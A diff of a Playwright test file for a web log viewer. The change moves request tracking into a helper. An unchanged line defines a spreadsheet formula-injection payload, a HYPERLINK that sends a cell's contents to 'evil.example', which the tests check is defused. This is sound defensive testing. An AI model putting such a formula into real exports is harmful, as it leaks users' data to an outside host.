@@ -4,7 +4,7 @@
 // refused or defused; each test here failed before the fix.
 const fs = require('fs');
 const { expect } = require('@playwright/test');
-const { test, waitReady, NOW } = require('./helpers');
+const { test, waitReady, NOW, watchRequests } = require('./helpers');
 
 const FORMULA = '=HYPERLINK("http://evil.example/?"&A2,"open")';
 
@@ -96,10 +96,7 @@ test('a diff of 300,000 changes lists the first ones and counts the rest; other 
 });
 
 test('a link to page 99,999,999 of the log in portal mode shows the last page in one request', async ({ page }) => {
-  const pages = [];
-  page.on('request', (request) => {
-    if (request.url().includes('/records')) pages.push(request.url());
-  });
+  const pages = watchRequests(page, { keep: (url) => url.includes('/records') });
   await page.goto('/log?agg=portal&page=99999999');
   await waitReady(page);
   const summary = page.locator('.summary');
